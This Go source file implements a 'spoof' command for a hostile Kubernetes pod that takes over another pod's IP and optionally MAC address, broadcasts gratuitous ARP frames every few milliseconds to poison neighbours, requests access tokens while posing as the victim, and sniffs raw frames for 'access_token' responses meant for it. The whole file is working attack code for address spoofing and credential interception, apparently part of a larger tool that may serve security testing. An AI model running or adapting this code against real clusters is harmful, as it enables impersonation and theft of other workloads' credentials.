package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"syscall"
	"time"
	"unsafe"
)

// A hostile pod with NET_ADMIN and NET_RAW: it takes the address of another pod (and its hardware address, if
// told), tells every bridge and neighbour so all the time, asks for tokens from that address, and listens for
// answers that were meant for the other.
func spoof(ctx context.Context, args []string) {
	set := flag.NewFlagSet("spoof", flag.ExitOnError)
	address := set.String("address", "", "the other pod's")
	mac := set.String("mac", "", "the other pod's hardware address, to use as well")
	made := tokenFlags(set)
	set.Parse(args)
	order := made()
	victim := net.ParseIP(*address).To4()
	device, err := net.InterfaceByName("eth0")
	fail(err)
	if *mac != "" {
		own, err := net.ParseMAC(*mac)
		fail(err)
		fail(setHardwareAddress(own))
		device.HardwareAddr = own
	}
	fail(addAddress(victim))
	socket, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, int(swapped(syscall.ETH_P_ALL)))
	fail(err)
	to := &syscall.SockaddrLinklayer{Protocol: swapped(syscall.ETH_P_ALL), Ifindex: device.Index}
	fail(syscall.Bind(socket, to))
	claim := gratuitousARP(device.HardwareAddr, victim)
	go func() {
		for ctx.Err() == nil {
			syscall.Sendto(socket, claim, 0, to)
			time.Sleep(5 * time.Millisecond)
		}
	}()
	go sniff(socket)
	dialer := &net.Dialer{LocalAddr: &net.TCPAddr{IP: victim}}
	client = &http.Client{Transport: &http.Transport{DisableKeepAlives: true, DialContext: dialer.DialContext}}
	for ctx.Err() == nil {
		print(ask(ctx, order))
		time.Sleep(50 * time.Millisecond)
	}
}

// Frames with a token in them, whoever asked for it.
func sniff(socket int) {
	frame := make([]byte, 65536)
	for {
		size, from, err := syscall.Recvfrom(socket, frame, 0)
		if err != nil {
			return
		}
		link, known := from.(*syscall.SockaddrLinklayer)
		if known && link.Pkttype != syscall.PACKET_OUTGOING && bytes.Contains(frame[:size], []byte(`"access_token"`)) {
			print(answer{At: time.Now().UTC().Format(time.RFC3339Nano), Status: 299, Body: string(frame[:size])})
		}
	}
}

// An ARP request in which the sender asks for its own address: who hears it believes it.
func gratuitousARP(mac net.HardwareAddr, ip net.IP) []byte {
	frame := bytes.NewBuffer(nil)
	broadcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	frame.Write(broadcast)
	frame.Write(mac)
	for _, word := range []uint16{syscall.ETH_P_ARP, 1, syscall.ETH_P_IP, 0x0604, 1} {
		binary.Write(frame, binary.BigEndian, word)
	}
	for _, part := range [][]byte{mac, ip, make([]byte, 6), ip} {
		frame.Write(part)
	}
	return frame.Bytes()
}

func swapped(protocol uint16) uint16 {
	return protocol<<8 | protocol>>8
}

type interfaceRequest struct {
	name   [16]byte
	family uint16
	data   [22]byte
}

// A second address of eth0, with which nothing but itself is near.
func addAddress(ip net.IP) error {
	request := interfaceRequest{family: syscall.AF_INET}
	copy(request.name[:], "eth0:1")
	copy(request.data[2:], ip)
	if err := control(syscall.SIOCSIFADDR, &request); err != nil {
		return err
	}
	copy(request.data[2:], []byte{255, 255, 255, 255})
	return control(syscall.SIOCSIFNETMASK, &request)
}

func setHardwareAddress(mac net.HardwareAddr) error {
	request := interfaceRequest{family: syscall.ARPHRD_ETHER}
	copy(request.name[:], "eth0")
	copy(request.data[:], mac)
	return control(syscall.SIOCSIFHWADDR, &request)
}

func control(what uintptr, request *interfaceRequest) error {
	socket, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer syscall.Close(socket)
	_, _, code := syscall.Syscall(syscall.SYS_IOCTL, uintptr(socket), what, uintptr(unsafe.Pointer(request)))
	if code != 0 {
		return fmt.Errorf("ioctl %x: %w", what, code)
	}
	return nil
}

func fail(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}
